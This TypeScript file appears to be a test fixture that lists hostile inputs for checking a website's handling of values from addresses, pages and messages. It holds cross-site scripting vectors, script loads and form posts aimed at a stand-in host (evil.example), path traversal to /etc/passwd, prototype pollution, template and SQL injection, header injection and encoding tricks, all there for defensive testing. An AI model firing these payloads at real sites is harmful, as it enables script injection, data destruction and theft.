/** What somebody who means harm writes where a value belongs; `encoded`: as it stands in an address, if not by the rules. */
export type Payload = { readonly name: string; readonly text: string; readonly encoded?: string };

/** Code that would run calls `attacked`; what would be loaded or opened is on another host. */
const run = 'attacked(1)';
const elsewhere = 'https://evil.example/x';

const html: readonly Payload[] = [
  ['a script', `<script>${run}</script>`],
  ['a script after the end of one', `</script><script>${run}</script>`],
  ['a script from elsewhere', `<script src=${elsewhere}></script>`],
  ['a module', `<script type=module>${run}</script>`],
  ['a script in mixed letters', `<ScRiPt>${run}</sCrIpT>`],
  ['a script within a script', `<scr<script>ipt>${run}</scr</script>ipt>`],
  ['a picture that fails', `<img src=x onerror=${run}>`],
  ['a picture from elsewhere', `<img src=${elsewhere}>`],
  ['a picture without an end', `<img src=x onerror=${run} `],
  ['a drawing', `<svg/onload=${run}>`],
  ['a drawing that moves', `<svg><animate onbegin=${run} attributeName=x></svg>`],
  ['a drawing with a foreign body', `<svg><foreignObject><iframe onload=${run}></iframe></foreignObject></svg>`],
  [
    'formulas as a way around',
    `<math><mtext><table><mglyph><style><img src onerror=${run}></style></mglyph></table></mtext></math>`,
  ],
  ['the end of a value in double quotes', `"><img src=x onerror=${run}>`],
  ['the end of a value in single quotes', `'><svg onload=${run}>`],
  ['a handler in double quotes', `" autofocus onfocus=${run} x="`],
  ['a handler in single quotes', `' autofocus onfocus='${run}`],
  ['a handler in back quotes', `\` onmouseover=${run} `],
  ['the end of a field', `</textarea><script>${run}</script>`],
  ['the end of a title, a style and a fallback', `</title></style></noscript><img src=x onerror=${run}>`],
  ['the end of a comment', `--><img src=x onerror=${run}>`],
  ['the end of a template', `</template><img src=x onerror=${run}>`],
  ['a frame with a page in it', `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`],
  ['a frame with code for an address', `<iframe src=javascript:parent.${run}></iframe>`],
  ['an object from elsewhere', `<object data=${elsewhere}></object>`],
  ['a page that leads away', `<meta http-equiv=refresh content="0;url=${elsewhere}">`],
  ['another base', '<base href=https://evil.example/>'],
  ['a form that sends away', `<form action=${elsewhere}><button autofocus>Go</button></form>`],
  ['a link with code', `<a href=javascript:${run}>Go</a>`],
  ['a style sheet from elsewhere', `<link rel=stylesheet href=${elsewhere}>`],
  ['a style', `<style>@import url(${elsewhere});*{display:none}</style>`],
  ['a name that hides one of ours', '<form name=location><input name=search id=main></form>'],
  ['an opened dialogue', `<details open ontoggle=${run}>`],
  ['wide signs', '＜script＞attacked(1)＜/script＞'],
  ['entities', `&lt;script&gt;${run}&lt;/script&gt;&#60;img src=x onerror=${run}&#62;`],
].map(([name = '', text = '']) => ({ name, text }));

const addresses: readonly Payload[] = [
  ['code for an address', `javascript:${run}`],
  ['code in mixed letters', `JaVaScRiPt:${run}`],
  ['code with a tab in its name', `java\tscript:${run}`],
  ['code with a line feed before it', `\njavascript:${run}`],
  ['code behind a comment', `javascript://evil.example/%0a${run}`],
  ['a page in an address', `data:text/html,<script>${run}</script>`],
  ['a drawing in an address', `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`],
  ['another host', elsewhere],
  ['another host without a scheme', '//evil.example/x'],
  ['another host by backward slashes', '\\\\evil.example\\x'],
  ['another host by three slashes', '///evil.example/x'],
  ['another host by one slash', 'https:evil.example/x'],
  ['another host behind a user', 'http://127.0.0.1@evil.example/'],
  ['a file of the machine', 'file:///etc/passwd'],
  ['a folder above', '../../../etc/passwd'],
  ['a folder above by backward slashes', '..\\..\\..\\windows'],
  ['a folder above in the middle', 'riverbank-university/../../x'],
  ['an id with a query of its own', 'riverbank-university/spreadsheet-skills?x=1#y'],
].map(([name = '', text = '']) => ({ name, text }));

const objects: readonly Payload[] = [
  ['the prototype', '__proto__'],
  ['the constructor', 'constructor'],
  ['the prototype of the constructor', 'constructor/prototype'],
  ['what every object has', 'toString'],
  ['what every object has, as an id', 'pathway:hasownproperty'],
  ['JSON that poisons', '{"__proto__":{"attacked":1},"constructor":{"prototype":{"attacked":1}}}'],
  ['JSON that is nested', '[{"o":[{"o":[{"o":"a/b"}]}]}]'],
  ['JSON without an end', '{"a":'.repeat(300)],
  ['brackets without an end', '['.repeat(1000)],
  ['a template of JavaScript', `\${${run}}`],
  ['a template of a framework', `{{constructor.constructor('${run}')()}}`],
  ['a selector', '"],*,[x="'],
  ['a selector without an end', ':is(:has(['],
  ['a style with an address', `red;background:url(${elsewhere})`],
  ['the end of a style', '0b5f57}body{display:none'],
  ['no number', 'NaN'],
  ['less than nothing', '-1'],
  ['more than can be counted', '1e309'],
  ['more digits than are kept', '99999999999999999999'],
  ['another way to write a number', '0x1f'],
  ['a yes', 'true'],
  ['nothing', 'null'],
  ['an object as text', '[object Object]'],
  ['a date that is none', '2027-02-31'],
  ['an expression that never ends', '(a+)+$'],
  ['a question to a database', "' OR 1=1; DROP TABLE offers --"],
].map(([name = '', text = '']) => ({ name, text }));

const signs: readonly Payload[] = [
  { name: 'control characters', text: '\u0001\b\u001b[31m\u007f' },
  { name: 'an end of text', text: 'a\u0000b' },
  { name: 'a header', text: 'x\r\nSet-Cookie: a=b\r\n\r\n<script>attacked(1)</script>' },
  { name: 'letters that turn the direction', text: 'abc\u202egnp.exe\u2066\u2067' },
  { name: 'letters without width', text: 'a\u200b\u200d\ufeff\u2060b' },
  { name: 'ends of lines and paragraphs', text: 'a\u2028attacked(1)\u2029' },
  { name: 'marks over marks', text: `a${'\u0301'.repeat(300)}` },
  { name: 'signs beyond the first plane', text: '👩‍👩‍👧‍👦'.repeat(40) },
  { name: 'letters that look alike', text: 'rіverbank-unіversіty/spreadsheet-skіlls' },
  { name: 'a sign cut short', text: '\ufffd', encoded: '%E0%A4%A' },
  { name: 'percent alone', text: '%', encoded: '%' },
  { name: 'percent and no digits', text: '%zz', encoded: '%zz' },
  { name: 'half a pair', text: '\ufffd', encoded: '%ED%A0%80' },
  { name: 'a slash in too many bytes', text: '\ufffd', encoded: '%C0%AF%C0%AE' },
  { name: 'what was encoded twice', text: '..%2f..%2f', encoded: '%252e%252e%252f%252e%252e%252f' },
  { name: 'a list by brackets', text: 'a', encoded: 'a&o[]=b&q[__proto__][attacked]=1&__proto__[attacked]=1' },
];

const sizes: readonly Payload[] = [
  { name: 'a long word', text: 'a'.repeat(6000) },
  { name: 'a long id', text: `${'a'.repeat(1000)}/${'b'.repeat(1000)}` },
  { name: 'hyphens without an end', text: `a${'-a'.repeat(1500)}-` },
  { name: 'hyphens and a wrong end', text: `${'a-'.repeat(1500)}!` },
  { name: 'slashes', text: '/'.repeat(1000) },
  { name: 'words', text: 'data '.repeat(400) },
  { name: 'a thousand further values', text: 'a', encoded: `a${'&o=a/b&have=a/b&q=c'.repeat(300)}` },
];

/** Each is tried wherever the site takes a value from an address, from another page or from a message. */
export const payloads: readonly Payload[] = [...html, ...addresses, ...objects, ...signs, ...sizes];

/** A payload as it stands in an address. */
export const inAddress = ({ text, encoded }: Payload): string => encoded ?? encodeURIComponent(text);
